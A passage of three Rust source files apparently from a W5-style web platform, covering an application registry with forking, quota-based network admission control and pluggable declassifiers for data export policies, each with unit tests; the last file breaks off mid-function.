//! The application registry: the developer ecosystem of paper §2.
//!
//! Developers publish **applications** made of **modules** (e.g. the photo
//! app's `crop` slot). Other developers publish competing module
//! implementations or **fork** whole applications — "any developer can
//! customize an existing application by simply forking the existing code,"
//! after which "the customizing developer has a pool of users."
//!
//! Users' module/version choices live in the policy store; the registry is
//! the catalog. Dependency edges (imports and embedded links) recorded here
//! feed the CodeRank analysis of §3.2.

use w5_sync::RwLock;
use serde::{Deserialize, Serialize};
use std::collections::HashMap;
use std::fmt;

/// A published application version.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct AppManifest {
    /// Application name, unique per developer, e.g. `"photos"`.
    pub name: String,
    /// Publishing developer, e.g. `"devA"`.
    pub developer: String,
    /// Version, monotonically increasing per (developer, name).
    pub version: u32,
    /// One-line description for the catalog.
    pub description: String,
    /// Module slots this app exposes for substitution (e.g. `["crop",
    /// "label"]`). Users pick providers per slot.
    pub module_slots: Vec<String>,
    /// Library/module dependencies as `"developer/app"` keys — the import
    /// edges for CodeRank.
    pub imports: Vec<String>,
    /// If this app was forked, the `"developer/app"` it came from.
    pub forked_from: Option<String>,
    /// Source code, if the developer released it (enables audit; paper §2
    /// "the platform itself can guarantee that the code with which a user
    /// is interacting is exactly the code that the user has audited").
    pub source: Option<String>,
}

impl AppManifest {
    /// The registry key, `"developer/name"`.
    pub fn key(&self) -> String {
        format!("{}/{}", self.developer, self.name)
    }

    /// Is the source released?
    pub fn is_open_source(&self) -> bool {
        self.source.is_some()
    }

    /// SHA-256 of the released source (hex), if any — the §2 guarantee
    /// that "the code with which a user is interacting is exactly the
    /// code that the user has audited": audit the text once, pin the hash.
    pub fn source_hash(&self) -> Option<String> {
        self.source
            .as_ref()
            .map(|s| crate::crypto::hex(&crate::crypto::sha256(s.as_bytes())))
    }
}

/// A module implementation filling a slot of some app.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct ModuleManifest {
    /// The app whose slot this fills, as `"developer/app"`.
    pub for_app: String,
    /// The slot name, e.g. `"crop"`.
    pub slot: String,
    /// The developer offering this implementation.
    pub developer: String,
    /// Human-readable description.
    pub description: String,
}

impl ModuleManifest {
    /// The registry key, `"for_app#slot@developer"`.
    pub fn key(&self) -> String {
        format!("{}#{}@{}", self.for_app, self.slot, self.developer)
    }
}

/// Registry errors.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum RegistryError {
    /// Unknown application.
    NoSuchApp(String),
    /// Unknown module.
    NoSuchModule(String),
    /// The slot is not declared by the target app.
    NoSuchSlot { app: String, slot: String },
    /// A version must exceed the previous one.
    VersionNotMonotonic,
}

impl fmt::Display for RegistryError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RegistryError::NoSuchApp(a) => write!(f, "no such app: {a}"),
            RegistryError::NoSuchModule(m) => write!(f, "no such module: {m}"),
            RegistryError::NoSuchSlot { app, slot } => {
                write!(f, "app {app} has no module slot {slot:?}")
            }
            RegistryError::VersionNotMonotonic => write!(f, "version must increase"),
        }
    }
}

impl std::error::Error for RegistryError {}

/// The catalog of applications and modules.
pub struct AppRegistry {
    /// key → all published versions, ascending.
    apps: RwLock<HashMap<String, Vec<AppManifest>>>,
    modules: RwLock<HashMap<String, ModuleManifest>>,
}

impl Default for AppRegistry {
    fn default() -> AppRegistry {
        AppRegistry::new()
    }
}

impl AppRegistry {
    /// An empty registry.
    pub fn new() -> AppRegistry {
        AppRegistry {
            apps: RwLock::with_index("platform.appreg", 0, HashMap::new()),
            modules: RwLock::with_index("platform.appreg", 1, HashMap::new()),
        }
    }

    /// Publish a new version of an application.
    pub fn publish(&self, manifest: AppManifest) -> Result<(), RegistryError> {
        let key = manifest.key();
        let mut apps = self.apps.write();
        let versions = apps.entry(key).or_default();
        if let Some(last) = versions.last() {
            if manifest.version <= last.version {
                return Err(RegistryError::VersionNotMonotonic);
            }
        }
        versions.push(manifest);
        Ok(())
    }

    /// Fork an existing application under a new developer. The fork starts
    /// at version 1, inherits slots/imports/source, and records lineage.
    pub fn fork(
        &self,
        source_key: &str,
        new_developer: &str,
        description: &str,
    ) -> Result<AppManifest, RegistryError> {
        let src = self
            .latest(source_key)
            .ok_or_else(|| RegistryError::NoSuchApp(source_key.to_string()))?;
        let fork = AppManifest {
            name: src.name.clone(),
            developer: new_developer.to_string(),
            version: 1,
            description: description.to_string(),
            module_slots: src.module_slots.clone(),
            imports: src.imports.clone(),
            forked_from: Some(source_key.to_string()),
            source: src.source.clone(),
        };
        self.publish(fork.clone())?;
        Ok(fork)
    }

    /// Offer a module implementation for an app's slot.
    pub fn publish_module(&self, module: ModuleManifest) -> Result<(), RegistryError> {
        let app = self
            .latest(&module.for_app)
            .ok_or_else(|| RegistryError::NoSuchApp(module.for_app.clone()))?;
        if !app.module_slots.contains(&module.slot) {
            return Err(RegistryError::NoSuchSlot { app: module.for_app.clone(), slot: module.slot.clone() });
        }
        self.modules.write().insert(module.key(), module);
        Ok(())
    }

    /// Latest version of an app.
    pub fn latest(&self, key: &str) -> Option<AppManifest> {
        self.apps.read().get(key).and_then(|v| v.last().cloned())
    }

    /// A specific version (paper §2: users may pin "version X.Y, not the
    /// latest").
    pub fn version(&self, key: &str, version: u32) -> Option<AppManifest> {
        self.apps
            .read()
            .get(key)
            .and_then(|v| v.iter().find(|m| m.version == version).cloned())
    }

    /// All versions of an app, ascending.
    pub fn versions(&self, key: &str) -> Vec<AppManifest> {
        self.apps.read().get(key).cloned().unwrap_or_default()
    }

    /// All apps (latest versions), sorted by key.
    pub fn list(&self) -> Vec<AppManifest> {
        let apps = self.apps.read();
        let mut v: Vec<AppManifest> = apps.values().filter_map(|vs| vs.last().cloned()).collect();
        v.sort_by_key(|a| a.key());
        v
    }

    /// Module implementations available for an app slot.
    pub fn modules_for(&self, app_key: &str, slot: &str) -> Vec<ModuleManifest> {
        let mut v: Vec<ModuleManifest> = self
            .modules
            .read()
            .values()
            .filter(|m| m.for_app == app_key && m.slot == slot)
            .cloned()
            .collect();
        v.sort_by(|a, b| a.developer.cmp(&b.developer));
        v
    }

    /// Look up one module by key.
    pub fn module(&self, key: &str) -> Option<ModuleManifest> {
        self.modules.read().get(key).cloned()
    }

    /// Dependency edges for CodeRank: `(from_key, to_key)` for every import
    /// of every latest-version app, plus fork lineage edges.
    pub fn dependency_edges(&self) -> Vec<(String, String)> {
        let apps = self.apps.read();
        let mut edges = Vec::new();
        for versions in apps.values() {
            if let Some(m) = versions.last() {
                for imp in &m.imports {
                    edges.push((m.key(), imp.clone()));
                }
                if let Some(src) = &m.forked_from {
                    edges.push((m.key(), src.clone()));
                }
            }
        }
        edges.sort();
        edges
    }

    /// Number of distinct apps.
    pub fn app_count(&self) -> usize {
        self.apps.read().len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn manifest(dev: &str, name: &str, version: u32) -> AppManifest {
        AppManifest {
            name: name.to_string(),
            developer: dev.to_string(),
            version,
            description: format!("{name} by {dev}"),
            module_slots: vec!["crop".to_string()],
            imports: vec![],
            forked_from: None,
            source: Some("fn main() {}".to_string()),
        }
    }

    #[test]
    fn publish_and_lookup() {
        let r = AppRegistry::new();
        r.publish(manifest("devA", "photos", 1)).unwrap();
        r.publish(manifest("devA", "photos", 2)).unwrap();
        assert_eq!(r.latest("devA/photos").unwrap().version, 2);
        assert_eq!(r.version("devA/photos", 1).unwrap().version, 1);
        assert_eq!(r.versions("devA/photos").len(), 2);
        assert!(r.latest("devB/photos").is_none());
        assert_eq!(r.app_count(), 1);
    }

    #[test]
    fn versions_must_increase() {
        let r = AppRegistry::new();
        r.publish(manifest("devA", "photos", 3)).unwrap();
        assert_eq!(
            r.publish(manifest("devA", "photos", 3)),
            Err(RegistryError::VersionNotMonotonic)
        );
        assert_eq!(
            r.publish(manifest("devA", "photos", 2)),
            Err(RegistryError::VersionNotMonotonic)
        );
    }

    #[test]
    fn forking_preserves_lineage_and_slots() {
        let r = AppRegistry::new();
        r.publish(manifest("devA", "photos", 5)).unwrap();
        let fork = r.fork("devA/photos", "devB", "photos with dark mode").unwrap();
        assert_eq!(fork.key(), "devB/photos");
        assert_eq!(fork.version, 1);
        assert_eq!(fork.forked_from.as_deref(), Some("devA/photos"));
        assert_eq!(fork.module_slots, vec!["crop"]);
        // The fork shows up as its own app.
        assert_eq!(r.app_count(), 2);
        // Lineage appears in the dependency edges.
        let edges = r.dependency_edges();
        assert!(edges.contains(&("devB/photos".to_string(), "devA/photos".to_string())));
    }

    #[test]
    fn fork_of_missing_app_fails() {
        let r = AppRegistry::new();
        assert!(matches!(r.fork("devZ/nope", "devB", "d"), Err(RegistryError::NoSuchApp(_))));
    }

    #[test]
    fn module_publication_validates_slot() {
        let r = AppRegistry::new();
        r.publish(manifest("devA", "photos", 1)).unwrap();
        let ok = ModuleManifest {
            for_app: "devA/photos".to_string(),
            slot: "crop".to_string(),
            developer: "devB".to_string(),
            description: "better cropper".to_string(),
        };
        r.publish_module(ok.clone()).unwrap();
        assert_eq!(r.modules_for("devA/photos", "crop"), vec![ok.clone()]);
        assert_eq!(r.module(&ok.key()).unwrap(), ok);

        let bad_slot = ModuleManifest { slot: "rotate".to_string(), ..ok.clone() };
        assert!(matches!(
            r.publish_module(bad_slot),
            Err(RegistryError::NoSuchSlot { .. })
        ));
        let bad_app = ModuleManifest { for_app: "nope/x".to_string(), ..ok };
        assert!(matches!(r.publish_module(bad_app), Err(RegistryError::NoSuchApp(_))));
    }

    #[test]
    fn import_edges_collected() {
        let r = AppRegistry::new();
        let mut a = manifest("devA", "photos", 1);
        a.imports = vec!["devC/imagelib".to_string()];
        r.publish(a).unwrap();
        r.publish(manifest("devC", "imagelib", 1)).unwrap();
        let edges = r.dependency_edges();
        assert_eq!(edges, vec![("devA/photos".to_string(), "devC/imagelib".to_string())]);
    }

    #[test]
    fn list_sorted() {
        let r = AppRegistry::new();
        r.publish(manifest("devB", "blog", 1)).unwrap();
        r.publish(manifest("devA", "photos", 1)).unwrap();
        let keys: Vec<String> = r.list().iter().map(AppManifest::key).collect();
        assert_eq!(keys, vec!["devA/photos", "devB/blog"]);
    }
}
