//! Kernel-backed admission control for the net pipeline (paper §3.5).
//!
//! The pipeline's [`Admission`] hook is where "resource containers reach
//! the socket": each principal class (anonymous traffic, a session user,
//! an app target) gets a lazily-created kernel process whose
//! [`ResourceContainer`](w5_kernel::ResourceContainer) is charged
//! `Network` bytes at both charge points and one `Cpu` tick per admitted
//! request. A [`QuotaExceeded`] refusal surfaces as a 429 whose body is a
//! label-safe fault report — for session principals the boundary process
//! carries the user's export-protection tag, so the detail is redacted
//! exactly as `faultreport.rs` prescribes, and the same report is retained
//! for developers via the platform's fault log.
//!
//! CPU epochs are counted in admitted requests (not wall clock, which
//! would break replay determinism): every `epoch_period` charges the
//! pacer triggers [`Kernel::refill_epoch`], so token buckets refill and a
//! throttled principal recovers after `Retry-After` worth of traffic.

use crate::faultreport::{build_report, FaultKind};
use crate::platform::Platform;
use std::collections::BTreeMap;
use std::sync::Arc;
use w5_difc::{CapSet, Label, LabelPair};
use w5_kernel::{EpochPacer, KernelError, ProcessId, ResourceKind, ResourceLimits};
use w5_net::pipeline::{Admission, ChargeDenied, ChargePoint, PrincipalClass};
use w5_net::{Request, SESSION_COOKIE_NAME};
use w5_sync::Mutex;

/// Admission policy bridging the net pipeline to the platform kernel.
pub struct NetAdmission {
    platform: Arc<Platform>,
    /// Limits applied to every principal-class boundary process.
    limits: ResourceLimits,
    /// Request-counted epoch pacer driving token-bucket refills.
    pacer: EpochPacer,
    /// Class key → the class's boundary process.
    pids: Mutex<BTreeMap<String, ProcessId>>,
}

impl NetAdmission {
    /// Build a policy charging each principal class against `limits`,
    /// refilling CPU token buckets every `epoch_period` request charges
    /// (0 = never refill).
    pub fn new(
        platform: Arc<Platform>,
        limits: ResourceLimits,
        epoch_period: u64,
    ) -> Arc<NetAdmission> {
        Arc::new(NetAdmission {
            platform,
            limits,
            pacer: EpochPacer::new(epoch_period),
            pids: Mutex::new("platform.boundary", BTreeMap::new()),
        })
    }

    /// The boundary process charged for `class`, if one was ever created.
    pub fn principal_pid(&self, class: &PrincipalClass) -> Option<ProcessId> {
        self.pids.lock().get(&class.key()).copied()
    }

    /// Labels for a class's boundary process: session principals carry
    /// the user's export-protection tag (their quota faults redact), app
    /// and anonymous traffic is label-free (full fault detail).
    fn class_labels(&self, class: &PrincipalClass) -> LabelPair {
        if let PrincipalClass::Session(user) = class {
            if let Some(account) = self.platform.accounts.find_by_username(user) {
                return LabelPair::new(Label::singleton(account.export_tag), Label::empty());
            }
        }
        LabelPair::public()
    }

    fn pid_for(&self, class: &PrincipalClass) -> ProcessId {
        let key = class.key();
        if let Some(pid) = self.pids.lock().get(&key).copied() {
            return pid;
        }
        // Create outside the map lock: process creation takes a kernel
        // shard lock ("platform.boundary" → "kernel.shard" is the
        // certified order, but the map lock need not be held for it).
        let labels = self.class_labels(class);
        let pid = self.platform.kernel.create_process(
            &format!("net:{key}"),
            labels,
            CapSet::empty(),
            self.limits,
        );
        let mut pids = self.pids.lock();
        // Two submitters may race; first insert wins and the loser's
        // process simply goes unused (processes are cheap table rows).
        *pids.entry(key).or_insert(pid)
    }
}

impl Admission for NetAdmission {
    fn classify(&self, request: &Request, _peer: std::net::SocketAddr) -> PrincipalClass {
        if let Some(token) = request.cookie(SESSION_COOKIE_NAME) {
            if let Some(user) = self.platform.sessions.validate(&token) {
                if let Some(account) = self.platform.accounts.get(user) {
                    return PrincipalClass::Session(account.username);
                }
                return PrincipalClass::Session(format!("u{}", user.0));
            }
        }
        let mut segs = request.path.split('/').filter(|s| !s.is_empty());
        if segs.next() == Some("app") {
            if let (Some(dev), Some(app)) = (segs.next(), segs.next()) {
                return PrincipalClass::App(format!("{dev}/{app}"));
            }
        }
        PrincipalClass::Anonymous
    }

    fn charge(
        &self,
        class: &PrincipalClass,
        point: ChargePoint,
        bytes: u64,
    ) -> Result<(), ChargeDenied> {
        if self.pacer.tick() {
            self.platform.kernel.refill_epoch();
        }
        let pid = self.pid_for(class);
        let kernel = &self.platform.kernel;
        let result = kernel.charge(pid, ResourceKind::Network, bytes).and_then(|()| {
            if matches!(point, ChargePoint::Request) {
                kernel.charge(pid, ResourceKind::Cpu, 1)
            } else {
                Ok(())
            }
        });
        match result {
            Ok(()) => Ok(()),
            Err(KernelError::Quota(q)) => {
                let labels = self.class_labels(class);
                let report = build_report(
                    &format!("net/{}", class.key()),
                    FaultKind::QuotaExceeded,
                    &labels,
                    &q.to_string(),
                );
                let denied = ChargeDenied {
                    detail: report.detail.clone().unwrap_or_default(),
                    redacted: report.redacted,
                    // CPU refills on the epoch boundary; suggest one epoch
                    // of backoff scaled down to seconds (floor 1).
                    retry_after: (self.pacer.period() / 64).max(1),
                };
                self.platform.record_fault(report);
                Err(denied)
            }
            // NoSuchProcess/injected faults are infrastructure trouble,
            // not the principal's overdraft: fail open so chaos inside
            // the kernel cannot turn into spurious 429s.
            Err(_) => Ok(()),
        }
    }

    fn telemetry_label(&self, class: &PrincipalClass) -> w5_obs::ObsLabel {
        self.class_labels(class).secrecy.to_obs()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_net::pipeline::fault_line;

    fn platform() -> Arc<Platform> {
        Platform::new_default("boundary-test")
    }

    fn get(path: &str) -> Request {
        Request::get(path)
    }

    fn peer() -> std::net::SocketAddr {
        "127.0.0.1:4000".parse().unwrap()
    }

    #[test]
    fn classifies_session_app_and_anonymous() {
        let p = platform();
        let user = p.accounts.register("alice", "pw").unwrap().id;
        let token = p.sessions.create(user);
        let adm = NetAdmission::new(Arc::clone(&p), ResourceLimits::unlimited(), 0);

        let mut req = get("/home");
        req.headers.insert("cookie".into(), format!("{SESSION_COOKIE_NAME}={token}"));
        assert_eq!(adm.classify(&req, peer()), PrincipalClass::Session("alice".into()));

        let req = get("/app/devA/photos/view");
        assert_eq!(adm.classify(&req, peer()), PrincipalClass::App("devA/photos".into()));

        let req = get("/registry");
        assert_eq!(adm.classify(&req, peer()), PrincipalClass::Anonymous);

        // A stale token is anonymous, not a phantom session.
        let mut req = get("/home");
        req.headers.insert("cookie".into(), format!("{SESSION_COOKIE_NAME}=bogus"));
        assert_eq!(adm.classify(&req, peer()), PrincipalClass::Anonymous);
    }

    #[test]
    fn network_bytes_are_charged_and_quota_denies() {
        let p = platform();
        let limits = ResourceLimits { network_bytes: 500, ..ResourceLimits::unlimited() };
        let adm = NetAdmission::new(Arc::clone(&p), limits, 0);
        let class = PrincipalClass::App("devA/photos".into());

        assert!(adm.charge(&class, ChargePoint::Request, 200).is_ok());
        assert!(adm.charge(&class, ChargePoint::Response, 200).is_ok());
        let pid = adm.principal_pid(&class).expect("boundary process exists");
        assert_eq!(p.kernel.usage(pid).unwrap().network_bytes, 400);

        // The next charge overdraws; the denial carries full detail (the
        // app class is label-free) and lands in the fault log.
        let denied = adm.charge(&class, ChargePoint::Response, 200).unwrap_err();
        assert!(!denied.redacted);
        assert!(denied.detail.contains("quota exceeded"), "detail: {}", denied.detail);
        assert!(denied.retry_after >= 1);
        let faults = p.fault_reports();
        let fault = faults.iter().find(|f| f.app == "net/app:devA/photos").expect("fault retained");
        assert_eq!(fault.kind, FaultKind::QuotaExceeded);
        assert!(!fault.redacted);

        // Usage is unchanged by the refused charge.
        assert_eq!(p.kernel.usage(pid).unwrap().network_bytes, 400);
    }

    #[test]
    fn session_quota_faults_are_redacted() {
        let p = platform();
        let user = p.accounts.register("bob", "pw").unwrap().id;
        let token = p.sessions.create(user);
        let limits = ResourceLimits { network_bytes: 100, ..ResourceLimits::unlimited() };
        let adm = NetAdmission::new(Arc::clone(&p), limits, 0);

        let mut req = get("/home");
        req.headers.insert("cookie".into(), format!("{SESSION_COOKIE_NAME}={token}"));
        let class = adm.classify(&req, peer());
        assert_eq!(class, PrincipalClass::Session("bob".into()));

        let denied = adm.charge(&class, ChargePoint::Request, 500).unwrap_err();
        assert!(denied.redacted, "session detail must be redacted");
        assert!(denied.detail.is_empty());
        let faults = p.fault_reports();
        let fault = faults.iter().find(|f| f.app == "net/session:bob").expect("fault retained");
        assert!(fault.redacted);
        assert_eq!(fault.detail, None);

        // The session class's queue telemetry carries the user's export
        // tag, so it is clearance-gated in ledger views.
        assert!(!adm.telemetry_label(&class).is_empty());
        assert!(adm.telemetry_label(&PrincipalClass::Anonymous).is_empty());
    }

    #[test]
    fn cpu_epoch_pacer_refills_token_buckets() {
        let limits = ResourceLimits { cpu_per_epoch: 3, ..ResourceLimits::unlimited() };
        let class = PrincipalClass::Anonymous;

        // Without a pacer (period 0) the token bucket never refills: the
        // 4th request's CPU tick is refused.
        let frozen = NetAdmission::new(platform(), limits, 0);
        for _ in 0..3 {
            assert!(frozen.charge(&class, ChargePoint::Request, 1).is_ok());
        }
        let denied = frozen.charge(&class, ChargePoint::Request, 1).unwrap_err();
        assert!(denied.detail.contains("cpu"), "detail: {}", denied.detail);

        // With an epoch no longer than the bucket (refill every 3
        // charges), the refill always lands before the bucket runs dry —
        // the same traffic is never throttled.
        let paced = NetAdmission::new(platform(), limits, 3);
        for i in 0..12 {
            assert!(
                paced.charge(&class, ChargePoint::Request, 1).is_ok(),
                "charge {i} refused despite epoch refills"
            );
        }
    }

    #[test]
    fn pipeline_fault_line_matches_platform_report_format() {
        // The pipeline renders 429/503 bodies without depending on this
        // crate; this pins the two formats together so they cannot drift.
        let report = build_report(
            "net/app:devA/photos",
            FaultKind::QuotaExceeded,
            &LabelPair::public(),
            "network quota exceeded: requested 200, 100 available",
        );
        assert_eq!(
            report.to_log_line(),
            fault_line(
                "net/app:devA/photos",
                "quota-exceeded",
                Some("network quota exceeded: requested 200, 100 available"),
            )
        );
        let redacted = build_report(
            "net/session:bob",
            FaultKind::QuotaExceeded,
            &LabelPair::new(Label::singleton(w5_difc::Tag::from_raw(9)), Label::empty()),
            "secret",
        );
        assert_eq!(
            redacted.to_log_line(),
            fault_line("net/session:bob", "quota-exceeded", None)
        );
    }
}
