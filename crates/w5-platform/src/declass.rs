//! Declassifiers: the small, pluggable export agents of paper §3.1.
//!
//! A declassifier is the *only* untrusted-party-supplied code that may move
//! a user's data across the security perimeter. Its two defining
//! characteristics (per the paper): it is **data-structure agnostic** — the
//! same `friends-only` declassifier guards photos, blog posts and profiles
//! alike — and it is **factored out of applications**, so it is small
//! enough to audit.
//!
//! The framework here reflects that: a declassifier sees only an
//! [`ExportContext`] (who owns the data, who is asking, through which app)
//! plus a trusted relationship oracle, and returns a [`Verdict`]. It never
//! sees or transforms the payload.

use crate::principal::UserId;
use w5_sync::RwLock;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;

/// The question a declassifier answers.
#[derive(Clone, Debug)]
pub struct ExportContext {
    /// The user whose export tag protects the data.
    pub owner: UserId,
    /// Owner's username (for relationship lookups).
    pub owner_name: String,
    /// The authenticated requester, if any.
    pub viewer: Option<UserId>,
    /// Requester's username.
    pub viewer_name: Option<String>,
    /// The application that produced the response (`"developer/app"`).
    pub app: String,
}

/// A declassification decision.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    /// The data may cross the perimeter to this viewer.
    Allow,
    /// It may not. No reason is given to the requesting application.
    Deny,
}

/// Trusted read-only oracle for user relationships, backed by
/// platform-owned tables. Declassifiers query *facts* here; they cannot
/// reach arbitrary storage.
pub trait RelationshipOracle: Send + Sync {
    /// Is `b` on `a`'s friend list?
    fn are_friends(&self, a: &str, b: &str) -> bool;
    /// Is `user` a member of `owner`'s named group?
    fn in_group(&self, owner: &str, group: &str, user: &str) -> bool;
}

/// A no-relationships oracle for tests and closed-world setups.
pub struct NoRelations;

impl RelationshipOracle for NoRelations {
    fn are_friends(&self, _a: &str, _b: &str) -> bool {
        false
    }
    fn in_group(&self, _owner: &str, _group: &str, _user: &str) -> bool {
        false
    }
}

/// The declassifier interface.
pub trait Declassifier: Send + Sync {
    /// Registry name, e.g. `"friends-only"`.
    fn name(&self) -> &'static str;
    /// Catalog description.
    fn description(&self) -> &'static str;
    /// The decision.
    fn authorize(&self, ctx: &ExportContext, oracle: &dyn RelationshipOracle) -> Verdict;
    /// Size of the decision logic in source lines — the audit surface
    /// measured by experiment E5. By convention this is the line count of
    /// the `authorize` body.
    fn audit_lines(&self) -> usize;
    /// The wrapped declassifier, for combinators like [`RateLimited`].
    /// Leaf declassifiers return `None`. Static analysis (`w5-analyze`)
    /// walks this to audit composed chains instead of treating wrappers
    /// as opaque.
    fn inner(&self) -> Option<&dyn Declassifier> {
        None
    }
    /// The full wrapper chain, outermost first, e.g.
    /// `["rate-limited", "friends-only"]`. Derived from [`Self::inner`].
    fn describe_chain(&self) -> Vec<&'static str> {
        let mut chain = vec![self.name()];
        let mut cur = self.inner();
        while let Some(d) = cur {
            chain.push(d.name());
            cur = d.inner();
        }
        chain
    }
}

/// Allow only the data's owner. The boilerplate policy of §3.1: "Bob's
/// data can only leave the security perimeter if destined for Bob's
/// browser." (The perimeter already fast-paths this case; the declassifier
/// exists so users can *see* the default policy in their catalog.)
pub struct OwnerOnly;

impl Declassifier for OwnerOnly {
    fn name(&self) -> &'static str {
        "owner-only"
    }
    fn description(&self) -> &'static str {
        "export only to the data owner's own browser"
    }
    fn authorize(&self, ctx: &ExportContext, _oracle: &dyn RelationshipOracle) -> Verdict {
        if ctx.viewer == Some(ctx.owner) {
            Verdict::Allow
        } else {
            Verdict::Deny
        }
    }
    fn audit_lines(&self) -> usize {
        5
    }
}

/// Allow anyone, including anonymous viewers — an explicit "make it
/// public" choice.
pub struct PublicRead;

impl Declassifier for PublicRead {
    fn name(&self) -> &'static str {
        "public-read"
    }
    fn description(&self) -> &'static str {
        "export to anyone (data is public)"
    }
    fn authorize(&self, _ctx: &ExportContext, _oracle: &dyn RelationshipOracle) -> Verdict {
        Verdict::Allow
    }
    fn audit_lines(&self) -> usize {
        1
    }
}

/// Allow the owner and the owner's friends — the paper's canonical
/// example: "a correct declassifier in this context will send Bob's
/// profile to users on Bob's friend list and not to others."
pub struct FriendsOnly;

impl Declassifier for FriendsOnly {
    fn name(&self) -> &'static str {
        "friends-only"
    }
    fn description(&self) -> &'static str {
        "export to the owner and users on the owner's friend list"
    }
    fn authorize(&self, ctx: &ExportContext, oracle: &dyn RelationshipOracle) -> Verdict {
        if ctx.viewer == Some(ctx.owner) {
            return Verdict::Allow;
        }
        match &ctx.viewer_name {
            Some(viewer) if oracle.are_friends(&ctx.owner_name, viewer) => Verdict::Allow,
            _ => Verdict::Deny,
        }
    }
    fn audit_lines(&self) -> usize {
        9
    }
}

/// Allow members of one of the owner's groups (e.g. "roommates", §2's
/// "viewed only by his roommates").
pub struct GroupOnly {
    /// The group name checked against the oracle.
    pub group: &'static str,
}

impl Declassifier for GroupOnly {
    fn name(&self) -> &'static str {
        "group-only"
    }
    fn description(&self) -> &'static str {
        "export to members of one of the owner's groups"
    }
    fn authorize(&self, ctx: &ExportContext, oracle: &dyn RelationshipOracle) -> Verdict {
        if ctx.viewer == Some(ctx.owner) {
            return Verdict::Allow;
        }
        match &ctx.viewer_name {
            Some(v) if oracle.in_group(&ctx.owner_name, self.group, v) => Verdict::Allow,
            _ => Verdict::Deny,
        }
    }
    fn audit_lines(&self) -> usize {
        9
    }
}

/// Wrap another declassifier with a per-viewer budget — an "idiosyncratic"
/// policy (§3.1): e.g. a dating profile that any user may view at most N
/// times before the owner must re-authorize.
pub struct RateLimited {
    inner: Arc<dyn Declassifier>,
    /// Exports allowed per viewer (per owner) before denials begin.
    pub budget: u32,
    counts: RwLock<HashMap<(UserId, Option<UserId>), u32>>,
}

impl RateLimited {
    /// Wrap `inner` with a budget.
    pub fn new(inner: Arc<dyn Declassifier>, budget: u32) -> RateLimited {
        RateLimited { inner, budget, counts: RwLock::with_index("platform.declass", 3, HashMap::new()) }
    }

    /// Reset all counters (an epoch boundary).
    pub fn reset(&self) {
        self.counts.write().clear();
    }
}

impl Declassifier for RateLimited {
    fn name(&self) -> &'static str {
        "rate-limited"
    }
    fn description(&self) -> &'static str {
        "wraps another declassifier with a per-viewer export budget"
    }
    fn authorize(&self, ctx: &ExportContext, oracle: &dyn RelationshipOracle) -> Verdict {
        if self.inner.authorize(ctx, oracle) == Verdict::Deny {
            return Verdict::Deny;
        }
        let mut counts = self.counts.write();
        let n = counts.entry((ctx.owner, ctx.viewer)).or_insert(0);
        if *n >= self.budget {
            Verdict::Deny
        } else {
            *n += 1;
            Verdict::Allow
        }
    }
    fn audit_lines(&self) -> usize {
        12 + self.inner.audit_lines()
    }
    fn inner(&self) -> Option<&dyn Declassifier> {
        Some(&*self.inner)
    }
}

/// The provider's catalog of installable declassifiers.
pub struct DeclassifierRegistry {
    by_name: RwLock<HashMap<&'static str, Arc<dyn Declassifier>>>,
}

impl Default for DeclassifierRegistry {
    fn default() -> DeclassifierRegistry {
        DeclassifierRegistry::new()
    }
}

impl DeclassifierRegistry {
    /// An empty registry.
    pub fn new() -> DeclassifierRegistry {
        DeclassifierRegistry {
            by_name: RwLock::with_index("platform.declass", 0, HashMap::new()),
        }
    }

    /// A registry preloaded with the built-ins.
    pub fn with_builtins() -> DeclassifierRegistry {
        let r = DeclassifierRegistry::new();
        r.register(Arc::new(OwnerOnly));
        r.register(Arc::new(PublicRead));
        r.register(Arc::new(FriendsOnly));
        r.register(Arc::new(GroupOnly { group: "roommates" }));
        r
    }

    /// Add a declassifier (replaces same-name entries).
    pub fn register(&self, d: Arc<dyn Declassifier>) {
        self.by_name.write().insert(d.name(), d);
    }

    /// Look up by name.
    pub fn get(&self, name: &str) -> Option<Arc<dyn Declassifier>> {
        self.by_name.read().get(name).cloned()
    }

    /// Look up and consult a declassifier, recording the verdict in the
    /// flow ledger. `secrecy` is the label of the data the verdict would
    /// release; even a denial reveals that this owner's data was requested,
    /// so the event carries the full label. Returns `None` if the
    /// declassifier does not exist (no event: nothing was consulted).
    pub fn consult(
        &self,
        name: &str,
        ctx: &ExportContext,
        oracle: &dyn RelationshipOracle,
        secrecy: &w5_obs::ObsLabel,
    ) -> Option<Verdict> {
        let d = self.get(name)?;
        let _span = w5_obs::span(
            &format!("platform.declass.{name}"),
            w5_obs::Layer::Platform,
            secrecy,
        );
        let verdict = d.authorize(ctx, oracle);
        w5_obs::record(
            secrecy,
            w5_obs::EventKind::DeclassifierInvoke {
                name: name.to_string(),
                allowed: verdict == Verdict::Allow,
            },
        );
        Some(verdict)
    }

    /// Catalog listing: (name, description, audit_lines), sorted by name.
    pub fn list(&self) -> Vec<(&'static str, &'static str, usize)> {
        let mut v: Vec<_> = self
            .by_name
            .read()
            .values()
            .map(|d| (d.name(), d.description(), d.audit_lines()))
            .collect();
        v.sort_by_key(|(n, _, _)| *n);
        v
    }
}

/// An in-memory oracle used by tests and the simulation harness.
pub struct StaticRelations {
    friends: RwLock<HashSet<(String, String)>>,
    groups: RwLock<HashSet<(String, String, String)>>,
}

impl Default for StaticRelations {
    fn default() -> StaticRelations {
        StaticRelations::new()
    }
}

impl StaticRelations {
    /// Empty relations.
    pub fn new() -> StaticRelations {
        StaticRelations {
            friends: RwLock::with_index("platform.declass", 1, HashSet::new()),
            groups: RwLock::with_index("platform.declass", 2, HashSet::new()),
        }
    }

    /// Record that `b` is on `a`'s friend list (directed).
    pub fn add_friend(&self, a: &str, b: &str) {
        self.friends.write().insert((a.to_string(), b.to_string()));
    }

    /// Add `user` to `owner`'s `group`.
    pub fn add_group_member(&self, owner: &str, group: &str, user: &str) {
        self.groups
            .write()
            .insert((owner.to_string(), group.to_string(), user.to_string()));
    }
}

impl RelationshipOracle for StaticRelations {
    fn are_friends(&self, a: &str, b: &str) -> bool {
